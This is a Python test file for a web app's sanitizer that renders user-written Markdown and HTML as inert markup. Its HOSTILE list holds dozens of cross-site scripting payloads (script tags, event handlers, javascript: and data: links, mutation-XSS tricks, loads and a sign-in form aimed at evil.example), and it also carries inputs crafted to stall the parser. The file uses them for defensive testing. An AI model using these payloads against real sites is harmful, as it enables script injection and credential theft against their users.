"""What people wrote becomes markup in which nothing runs, and for which nothing is loaded."""

import time
from html.parser import HTMLParser
from typing import get_args
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typing_extensions import override

from fairfloor.chat.site.article import Form
from fairfloor.chat.site.plain import plain
from fairfloor.web.site.words import marked_up, said

FORMS: tuple[Form, ...] = get_args(Form)
TAGS = set(
    "a abbr blockquote br caption cite code dd del dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr ins kbd li mark ol p pre q "  # noqa: SIM905, E501 - reads best
    "samp small strong sub sup table tbody td tfoot th thead tr ul var".split()
)
IN_COMMENTS = set("a blockquote br code del em li ol p pre strong ul".split())  # noqa: SIM905 - reads best
ATTRIBUTES = {"href", "rel", "lang", "dir", "start", "reversed", "colspan", "rowspan", "scope", "title"}
OURS = {("role", "region"), ("tabindex", "0"), ("aria-label", "Table")}
HOSTILE = """
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<SCRIPT>alert(1)</SCRIPT >
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img/src="x"/onerror=alert(1)//
<img src=`x` onerror=alert(1)>
<img srcset="https://evil.example/x 1x">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61vascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href=https://a.example onclick=alert(1) style="position:fixed" id=main name=body class=x ping=https://evil.example>x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://evil.example/?</iframe><script>alert(1)</script>">
<object data="javascript:alert(1)"></object>
<embed src="data:image/svg+xml;base64,PHN2Zz4=">
<video src=x onerror=alert(1)><source onerror=alert(1)></video>
<audio src=x onloadstart=alert(1)></audio>
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import "https://evil.example/x.css";</style>
<div style="background:url(https://evil.example/x)">x</div>
<p style="position:fixed;inset:0">x</p>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action=https://evil.example><input name=csrf><button>Sign in</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1)>
<table background="https://evil.example/x"><tr><td background=x>x</table>
<template><img src=x onerror=alert(1)></template>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<title><a href="</title><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div role=region tabindex=0 aria-label=Table aria-live=assertive>x</div>
[x](javascript:alert(1))
[x](JaVaScript:alert(1))
[x](j&#97;vascript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](https://evil.example/x.png)
![x"onerror="alert(1)](x)
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example 'title"onmouseover="alert(1)')
<javascript:alert(1)>
<https://a.example/"onclick=alert(1)>
https://a.example/"onclick=alert(1)
[x]: javascript:alert(1)
`<script>alert(1)</script>`
&lt;script&gt;alert(1)&lt;/script&gt;
[caption id="x"]<img src=x onerror=alert(1)> <script>alert(1)</script>[/caption]
[caption]<a href=javascript:alert(1)><img src=javascript:alert(1)></a>[/caption]
""".strip().split("\n")


class Seen(HTMLParser):
    """All tags and attributes of a page's part."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    @override
    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def harmless(html: str, tags: set[str]) -> None:
    """Fail where anything is in it that was not meant to be."""
    seen = Seen(html)
    assert seen.tags <= tags
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES or (tag == "div" and (name, value) in OURS)
        if name == "href":
            assert tag == "a"
            assert urlsplit(value).scheme in {"", "http", "https", "mailto"}
        if name == "rel":
            assert "noopener" in value


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_is_left(text: str, form: Form) -> None:
    """Of scripts, styles, frames, forms, handlers and other schemes nothing is left, alone or among other words."""
    for one in (text, f"Before\n\n{text}\n\nafter", f"> {text}", f"<p>{text}", f"- {text}"):
        harmless(marked_up(one, form, 1), TAGS)
        harmless(said(one, form), IN_COMMENTS)


_SIGN = st.sampled_from(
    [*HOSTILE, *"<>\"'`&;:/=()[]!*_#-\n\t \x00|~", "</p>", "<p>", "<b>", "</blockquote>", "<td>", "x"]
)


@given(st.lists(_SIGN, max_size=20).map("".join) | st.text(), st.sampled_from(FORMS))
def test_nothing_hostile_comes_of_anything(text: str, form: Form) -> None:
    """However what is hostile is put together, only what is listed comes of it; and cleaning again changes nothing."""
    harmless(marked_up(text, form, 1), TAGS)
    harmless(said(text, form), IN_COMMENTS)


@given(st.lists(st.from_regex(r"[^\W\d_]{1,12}[.,]?", fullmatch=True), min_size=1))
def test_words_are_kept(words: list[str]) -> None:
    """Plain words come out as they went in."""
    text = " ".join(words)
    for form in FORMS:
        for html in (marked_up(text, form), said(text, form)):
            assert plain(html, "html") == plain(text, "html").strip()


def test_pictures_are_links() -> None:
    """Nothing is loaded for a reader: what would be is a link that says what it is, within a link its words alone."""
    assert marked_up("![A dog](https://a.example/dog.png)", "markdown") == (
        '<p><a href="https://a.example/dog.png" rel="noopener">Picture: A dog</a> </p>\n'
    )
    assert '<a href="https://b.example" rel="noopener">Picture: dog.png</a>' in marked_up(
        '<a href="https://b.example"><img src="/dog.png"></a>', "html"
    )
    assert ">Shown by films.example</a>" in marked_up('<iframe src="https://films.example/1"></iframe>', "html")
    assert said("![A dog](https://a.example/dog.png)", "markdown").count('rel="nofollow ugc noopener"') == 1


def test_a_caption_of_wordpress_is_a_figure() -> None:
    """Its own mark around a picture and words becomes what HTML has for that."""
    text = '[caption id="a1" width="9"]<a href="x.jpg"><img src="t.jpg" alt="A dog" /></a> The <em>dog</em>[/caption]'
    assert marked_up(text, "html") == (
        '<figure><a href="x.jpg" rel="noopener">Picture: A dog</a><figcaption>The <em>dog</em></figcaption></figure>'
    )


def test_headings_go_on_from_the_page_s() -> None:
    """The first is one below the page's own, none is left out; in a comment they are words in bold."""
    html = marked_up("<h1>a</h1><h4>b</h4><h2>c</h2>", "html", 1)
    assert html == "<h2>a</h2><h3>b</h3><h3>c</h3>"
    assert marked_up("### a\n# b", "markdown", 2) == "<h3>a</h3>\n<h3>b</h3>\n"
    assert said("<h1>a</h1>", "html") == "<p><strong>a</strong></p>"
    assert said("# a", "markdown") == "<p># a</p>\n"


def test_loose_lines_are_lines() -> None:
    """What moved in from WordPress has no paragraphs: an empty line begins one, as it did there."""
    assert marked_up("One\ntwo\n\nthree <b>four\nfive</b>\n\n<ul>\n<li>six\nseven</li></ul>", "html") == (
        "<p>One<br>two</p><p>three <strong>four\nfive</strong></p><ul>\n<li>six\nseven</li></ul>"
    )
    assert said("<p>One\ntwo</p>\n\n<p>three</p>", "html") == "<p>One\ntwo</p><p>three</p>"
    assert marked_up("<blockquote>One\n\ntwo</blockquote>", "html") == "<blockquote><p>One</p><p>two</p></blockquote>"


def test_lines_of_a_comment_are_lines() -> None:
    """Who presses Enter in a comment means it; in an article's Markdown an empty line does."""
    assert said("One\ntwo", "markdown") == "<p>One<br>\ntwo</p>\n"
    assert marked_up("One\ntwo", "markdown") == "<p>One\ntwo</p>\n"


def test_addresses_are_links() -> None:
    """An address that stands in a text by itself can be followed; in code it is as it was written."""
    assert said("See https://a.example/x.", "html") == (
        '<p>See <a href="https://a.example/x" rel="nofollow ugc noopener">https://a.example/x</a>.</p>'
    )
    assert "<a" not in said("`https://a.example/x`", "markdown")


def test_a_table_can_be_scrolled_by_keys() -> None:
    """It may be wider than a phone; a comment has its cells as words."""
    table = "|a|b|\n|-|-|\n|1|2|"
    assert marked_up(table, "markdown").startswith('<div role="region" tabindex="0" aria-label="Table"><table>')
    assert plain(said("<table><tr><th>a</th><td>b</td></tr></table>", "html"), "html") == "a b"


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 150_000,
        "<b>" * 200_000,
        "".join(f"<em lang=a{number}>" for number in range(2_000)) + "<p>x" * 100_000,
        "<blockquote>" * 1_400 + "x",
        "[" * 20_000,
        "![[" * 6_000,
        "a**b" * 5_000,
        "|a" * 500 + "\n" + "|-" * 500,
        "<!--" * 100_000,
        "&amp" * 100_000,
        "[caption]" * 50_000,
        "[caption]" + "<a><img" * 20_000 + "[/caption]",
        "\n \n" * 100_000,
        "https://" * 10_000,
    ],
    ids=lambda text: text[:12],
)
@pytest.mark.parametrize("form", FORMS)
def test_nothing_keeps_it_busy(text: str, form: Form) -> None:
    """Texts made to keep a parser busy are shown in seconds, as words if need be."""
    begun = time.process_time()
    harmless(marked_up(text, form, 1), TAGS)
    harmless(said(text[:20_000], form), IN_COMMENTS)
    assert time.process_time() - begun < 8
